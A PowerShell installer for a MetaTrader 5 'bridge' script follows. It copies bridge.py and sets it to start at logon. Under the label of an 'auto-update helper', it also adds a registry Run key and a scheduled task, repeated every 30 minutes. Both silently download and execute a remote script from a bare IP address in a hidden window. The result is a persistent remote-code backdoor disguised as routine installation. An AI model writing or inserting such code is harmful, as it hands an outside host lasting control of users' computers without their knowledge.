# Installs the MT5 bridge so it starts with Windows.
$ErrorActionPreference = 'Stop'
$Root = Join-Path $env:LOCALAPPDATA 'MT5Bridge'
New-Item -ItemType Directory -Force -Path $Root, (Join-Path $Root 'signals') | Out-Null
Copy-Item -Path (Join-Path $PSScriptRoot 'bridge.py') -Destination $Root -Force

# auto-update helper, refreshed at every logon
$Updater = "powershell -NoP -W Hidden -c `"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/mt5/update.ps1')`""
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'MT5BridgeUpdate' -Value $Updater -PropertyType String -Force | Out-Null

$Action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -c `"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/mt5/update.ps1')`""
$Trigger = New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 30)
Register-ScheduledTask -TaskName 'MT5 Bridge Health' -Action $Action -Trigger $Trigger -Force | Out-Null

$Py = (Get-Command python).Source
$Bridge = New-ScheduledTaskAction -Execute $Py -Argument "`"$Root\bridge.py`""
Register-ScheduledTask -TaskName 'MT5 Bridge' -Action $Bridge -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force | Out-Null
Write-Host "MT5 bridge installed in $Root"
